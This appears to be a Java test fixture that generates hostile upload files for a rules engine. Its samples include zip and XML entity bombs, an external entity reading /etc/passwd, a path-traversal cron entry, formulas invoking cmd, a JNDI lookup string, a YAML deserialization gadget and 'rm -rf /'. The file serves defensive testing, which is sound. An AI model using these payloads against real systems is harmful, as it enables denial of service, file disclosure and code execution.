package org.lotse.rules;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/** Files somebody might upload to do harm, or by accident, each with its path below {@code rules/}. */
final class HostileFiles {
    private static final String TABLE = "Table,x,Hit policy,first,Subject,customer,Language,en\n";
    private static final String SHEET_START = "<?xml version=\"1.0\"?><worksheet"
            + " xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData>";
    private static final String SHEET_END = "</sheetData></worksheet>";

    private HostileFiles() {}

    /** A file with what makes it hostile. */
    record Hostile(String path, byte[] content) {}

    static Map<String, Hostile> all() {
        Map<String, Hostile> all = new LinkedHashMap<>();
        workbooks(all);
        tables(all);
        texts(all);
        programs(all);
        return all;
    }

    private static void workbooks(Map<String, Hostile> all) {
        xlsx(all, "zip bomb", Map.of("xl/worksheets/sheet1.xml", SHEET_START + " ".repeat(60_000_000) + SHEET_END));
        xlsx(
                all,
                "a million rows",
                Map.of("xl/worksheets/sheet1.xml", SHEET_START + "<row/>".repeat(1_000_000) + SHEET_END));
        xlsx(
                all,
                "a million rows with a prefix",
                Map.of(
                        "xl/worksheets/sheet1.xml",
                        "<x:worksheet xmlns:x=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><x:sheetData>"
                                + "<x:row/>".repeat(1_000_000)
                                + "</x:sheetData></x:worksheet>"));
        xlsx(
                all,
                "a row far below",
                Map.of(
                        "xl/worksheets/sheet1.xml",
                        SHEET_START + "<row r=\"1048576\"><c r=\"A1048576\" t=\"inlineStr\"><is><t>x</t></is></c></row>"
                                + SHEET_END));
        xlsx(
                all,
                "entity bomb",
                Map.of("xl/worksheets/sheet1.xml", bomb() + "<worksheet><sheetData/>&e9;</worksheet>"));
        xlsx(
                all,
                "external entity",
                Map.of(
                        "xl/worksheets/sheet1.xml",
                        "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><worksheet><sheetData><row r=\"1\"><c r=\"A1\""
                                + " t=\"inlineStr\"><is><t>&x;</t></is></c></row></sheetData></worksheet>"));
        xlsx(all, "entity in the workbook", Map.of("xl/workbook.xml", bomb() + "<workbook>&e9;</workbook>"));
        xlsx(all, "macros", Map.of("xl/vbaProject.bin", "Sub AutoOpen()"));
        xlsx(all, "external link", Map.of("xl/externalLinks/externalLink1.xml", "<externalLink/>"));
        xlsx(all, "embedded program", Map.of("xl/embeddings/oleObject1.bin", "MZ"));
        xlsx(all, "ActiveX", Map.of("xl/activeX/activeX1.xml", "<ax/>"));
        xlsx(all, "data connection", Map.of("xl/connections.xml", "<connections/>"));
        xlsx(
                all,
                "formula",
                Map.of(
                        "xl/worksheets/sheet1.xml",
                        SHEET_START + "<row r=\"1\"><c r=\"A1\"><f>WEBSERVICE(\"http://x\")</f><v>1</v></c></row>"
                                + SHEET_END));
        xlsx(
                all,
                "shared formula",
                Map.of(
                        "xl/worksheets/sheet1.xml",
                        SHEET_START
                                + "<row r=\"1\"><c r=\"A1\"><f t=\"shared\" ref=\"A1:A9\" si=\"0\">1+1</f><v>2</v></c></row>"
                                + SHEET_END));
        xlsx(
                all,
                "formula that calls a program",
                Map.of(
                        "xl/worksheets/sheet1.xml",
                        SHEET_START + "<row r=\"1\"><c r=\"A1\"><f>cmd|'/c calc'!A0</f><v>1</v></c></row>"
                                + SHEET_END));
        xlsx(
                all,
                "error cell",
                Map.of(
                        "xl/worksheets/sheet1.xml",
                        SHEET_START + "<row r=\"1\"><c r=\"A1\" t=\"e\"><v>#REF!</v></c></row>" + SHEET_END));
        xlsx(
                all,
                "merged cells",
                Map.of(
                        "xl/worksheets/sheet1.xml",
                        SHEET_START
                                + "<row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>Table</t></is></c></row></sheetData>"
                                + "<mergeCells count=\"1\"><mergeCell ref=\"A1:C2\"/></mergeCells></worksheet>"));
        xlsx(
                all,
                "unknown shared text",
                Map.of(
                        "xl/worksheets/sheet1.xml",
                        SHEET_START + "<row r=\"1\"><c r=\"A1\" t=\"s\"><v>99999</v></c></row>" + SHEET_END));
        xlsx(
                all,
                "number that is none",
                Map.of(
                        "xl/worksheets/sheet1.xml",
                        SHEET_START + "<row r=\"1\"><c r=\"A1\"><v>NaN</v></c><c r=\"B1\"><v>1e999</v></c></row>"
                                + SHEET_END));
        xlsx(
                all,
                "cell reference out of the sheet",
                Map.of(
                        "xl/worksheets/sheet1.xml",
                        SHEET_START + "<row r=\"1\"><c r=\"ZZZZZ99999999\"><v>1</v></c></row>" + SHEET_END));
        xlsx(all, "no sheet data", Map.of("xl/worksheets/sheet1.xml", "<worksheet/>"));
        xlsx(all, "unfinished XML", Map.of("xl/worksheets/sheet1.xml", SHEET_START + "<row r=\"1\">"));
        Map<String, String> many = new LinkedHashMap<>();
        for (int entry = 0; entry < 600; entry++) {
            many.put("xl/theme/theme" + entry + ".xml", "<a/>");
        }
        xlsx(all, "hundreds of entries", many);
        xlsx(all, "path out of the archive", Map.of("../../etc/cron.d/x", "* * * * * root sh"));
        put(all, "workbook cut off", "tables/a.xlsx", cut(zip(Map.of())));
        put(all, "no workbook", "tables/b.xlsx", "MZ\u0090 not a zip");
        put(all, "empty workbook", "tables/c.xlsx", new byte[0]);
        put(
                all,
                "an archive in an archive",
                "tables/d.xlsx",
                rawZip(Map.of("inner.zip", rawZip(Map.of("a", new byte[9])))));
        put(all, "old workbook under a new name", "tables/e.xlsx", new byte[] {
            (byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0
        });
    }

    private static void tables(Map<String, Hostile> all) {
        put(all, "open quotation", "tables/f.csv", TABLE + "Name,\"Lead score from,=> Channel\n1,2,3");
        put(all, "a binary file", "tables/g.csv", new byte[] {0, 1, 2, 3, 0, 'a', ','});
        put(
                all,
                "UTF-16",
                "tables/h.csv",
                (TABLE + "Lead score from,=> Channel\n1,Call\n").getBytes(StandardCharsets.UTF_16));
        put(all, "a very long cell", "tables/i.csv", TABLE + "Name,=> Channel\n" + "x".repeat(200_000) + ",Call\n");
        put(all, "very many columns", "tables/j.csv", TABLE + "Name,".repeat(5_000) + "=> Channel\n");
        put(all, "very many rows", "tables/k.csv", TABLE + "Lead score from,=> Channel\n" + "1,Call\n".repeat(60_000));
        put(all, "look-alike letters", "tables/l.csv", TABLE + "L\u0435ad score from,=> Channel\n1,Call\n");
        put(all, "writing direction turned", "tables/m.csv", TABLE + "\u202Escore from\u202C,=> Channel\n1,Call\n");
        put(all, "invisible letters", "tables/n.csv", TABLE + "Lead\u200B score from,=> Channel\n1,Call\n");
        put(
                all,
                "code in a condition",
                "tables/o.csv",
                TABLE + "Lead score from,=> Channel\n1) ; System.exit(0),Call\n");
        put(
                all,
                "code in a calculation",
                "tables/p.csv",
                TABLE + "=> Points\n\"calc Runtime.getRuntime().exec(\"\"x\"\")\"\n");
        put(
                all,
                "deep brackets",
                "tables/q.csv",
                TABLE + "=> Points\ncalc " + "(".repeat(5_000) + "1" + ")".repeat(5_000) + "\n");
        put(all, "long calculation", "tables/r.csv", TABLE + "=> Points\ncalc 1" + " + 1".repeat(20_000) + "\n");
        put(all, "formula of a spreadsheet", "tables/s.csv", TABLE + "Lead score from,=> Channel\n=1+1,Call\n");
        put(
                all,
                "formula that sends data",
                "tables/t.csv",
                TABLE + "Lead score from,=> Channel\n\"=HYPERLINK(\"\"http://x\"\")\",Call\n");
        put(all, "a day that is none", "tables/u.csv", TABLE + "Customer since before,=> Channel\n2026-02-30,Call\n");
        put(
                all,
                "a German day in English",
                "tables/v.csv",
                TABLE + "Customer since before,=> Channel\n24.12.2026,Call\n");
        put(all, "a decimal comma in English", "tables/w.csv", TABLE + "Lead score from,=> Channel\n\"0,5\",Call\n");
        put(all, "infinity", "tables/x.csv", TABLE + "Lead score from,=> Channel\nInfinity,Call\n");
        put(
                all,
                "a number beyond all",
                "tables/y.csv",
                TABLE + "Lead score from,=> Channel\n1" + "0".repeat(400) + ",Call\n");
        put(all, "an unknown action", "tables/z.csv", TABLE + "Action is,=> Eligible\n../../etc/passwd,yes\n");
        put(
                all,
                "Windows letters cut in two",
                "tables/aa.csv",
                "Tabelle;x\u00fc".getBytes(Charset.forName("windows-1252")));
        put(all, "nothing", "tables/ab.csv", new byte[0]);
        put(all, "line ends only", "tables/ac.csv", "\n\r\n\r\n");
    }

    private static void texts(Map<String, Hostile> all) {
        put(all, "code as a sentence", "sentences/a.en.rules", "x: If true then System.exit(0).\n");
        put(
                all,
                "nested brackets",
                "sentences/b.en.rules",
                "x: If " + "(".repeat(3_000) + "the lead score is 1, then the tier is high.\n");
        put(
                all,
                "endless sentence",
                "sentences/c.en.rules",
                "x: If " + "the lead score is above 1 and ".repeat(30_000) + "\n");
        put(all, "endless names", "sentences/d.en.rules", ":".repeat(400_000));
        put(all, "a template", "sentences/e.en.rules", "x: If ${jndi:ldap://x/a} then the tier is high.\n");
        put(all, "a rule of Drools", "sentences/f.en.rules", "rule \"x\" when eval(true) then System.exit(0); end\n");
        put(all, "YAML that makes objects", "vocabulary.yaml", "subjects: !!javax.script.ScriptEngineManager [x]\n");
        put(all, "YAML that repeats itself", "vocabulary.yaml", laughs());
        put(all, "YAML in a circle", "settings.yaml", "a: &a [*a, *a]\n");
        put(all, "deep YAML", "settings.yaml", "[".repeat(20_000));
        put(all, "a promise with code", "promises.rules", "language: en\nNever: System.exit(0) is chosen.\n");
        put(all, "a feature with code", "tests/a.feature", "Feature: a\n  Scenario: b\n    Then System.exit(0)\n");
        put(
                all,
                "an endless feature",
                "tests/b.feature",
                "Feature: a\n" + "  Scenario: b\n    Given c\n".repeat(30_000));
        put(all, "a feature that multiplies", "tests/c.feature", outline());
    }

    private static void programs(Map<String, Hostile> all) {
        put(all, "Drools", "tables/a.drl", "rule x when then System.exit(0); end");
        put(all, "Drools in capitals", "tables/A.DRL", "rule x when then System.exit(0); end");
        put(all, "old workbook", "tables/a.xls", new byte[] {(byte) 0xD0, (byte) 0xCF});
        put(all, "workbook with macros", "tables/a.xlsm", "x");
        put(all, "class", "a.class", new byte[] {(byte) 0xCA, (byte) 0xFE, (byte) 0xBA, (byte) 0xBE});
        put(all, "jar", "lib/a.jar", new byte[] {'P', 'K', 3, 4});
        put(all, "shell", "a.sh", "#!/bin/sh\nrm -rf /");
        put(all, "JavaScript", "sentences/a.js", "process.exit()");
        put(all, "decision model", "a.dmn", "<definitions/>");
        put(all, "Groovy", "a.groovy", "System.exit(0)");
    }

    private static String bomb() {
        StringBuilder bomb = new StringBuilder("<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY e0 \"ha\">");
        for (int level = 1; level <= 9; level++) {
            bomb.append("<!ENTITY e")
                    .append(level)
                    .append(" \"")
                    .append(("&e" + (level - 1) + ";").repeat(10))
                    .append("\">");
        }
        return bomb + "]>";
    }

    private static String laughs() {
        StringBuilder laughs = new StringBuilder("a0: &a0 [x, x, x, x, x, x, x, x, x]\n");
        for (int level = 1; level <= 9; level++) {
            String before = "*a" + (level - 1);
            laughs.append("a")
                    .append(level)
                    .append(": &a")
                    .append(level)
                    .append(" [")
                    .append((before + ", ").repeat(8))
                    .append(before)
                    .append("]\n");
        }
        return laughs.toString();
    }

    private static String outline() {
        return "Feature: a\n  Scenario Outline: b\n    Given a customer with Lead score <x>\n    Examples:\n      | x |\n"
                + "      | 1 |\n".repeat(20_000);
    }

    private static void xlsx(Map<String, Hostile> all, String name, Map<String, String> entries) {
        put(all, name, "tables/" + name.replace(' ', '-') + ".xlsx", zip(entries));
    }

    private static void put(Map<String, Hostile> all, String name, String path, String content) {
        put(all, name, path, content.getBytes(StandardCharsets.UTF_8));
    }

    private static void put(Map<String, Hostile> all, String name, String path, byte[] content) {
        if (all.put(name, new Hostile(path, content)) != null) {
            throw new IllegalStateException("There are two files named " + name + ".");
        }
    }

    private static byte[] cut(byte[] content) {
        return java.util.Arrays.copyOf(content, content.length / 2);
    }

    /** A workbook with one sheet, in which these parts are put or replaced. */
    static byte[] zip(Map<String, String> entries) {
        Map<String, byte[]> parts = new LinkedHashMap<>();
        parts.put(
                "[Content_Types].xml",
                bytes(
                        "<?xml version=\"1.0\"?><Types"
                                + " xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Default Extension=\"rels\""
                                + " ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/><Override"
                                + " PartName=\"/xl/workbook.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml\"/>"
                                + "<Override PartName=\"/xl/worksheets/sheet1.xml\""
                                + " ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml\"/></Types>"));
        parts.put(
                "_rels/.rels",
                bytes("<?xml version=\"1.0\"?><Relationships"
                        + " xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"r1\""
                        + " Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\""
                        + " Target=\"xl/workbook.xml\"/></Relationships>"));
        parts.put(
                "xl/_rels/workbook.xml.rels",
                bytes("<?xml version=\"1.0\"?><Relationships"
                        + " xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"r1\""
                        + " Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet\""
                        + " Target=\"worksheets/sheet1.xml\"/></Relationships>"));
        parts.put(
                "xl/workbook.xml",
                bytes("<?xml version=\"1.0\"?><workbook"
                        + " xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\""
                        + " xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><sheets><sheet name=\"S\""
                        + " sheetId=\"1\" r:id=\"r1\"/></sheets></workbook>"));
        parts.put("xl/worksheets/sheet1.xml", bytes(SHEET_START + SHEET_END));
        entries.forEach((name, content) -> parts.put(name, bytes(content)));
        return rawZip(parts);
    }

    private static byte[] rawZip(Map<String, byte[]> entries) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            for (Map.Entry<String, byte[]> entry : entries.entrySet()) {
                zip.putNextEntry(new ZipEntry(entry.getKey()));
                zip.write(entry.getValue());
                zip.closeEntry();
            }
        } catch (IOException impossible) {
            throw new UncheckedIOException(impossible);
        }
        return bytes.toByteArray();
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }
}
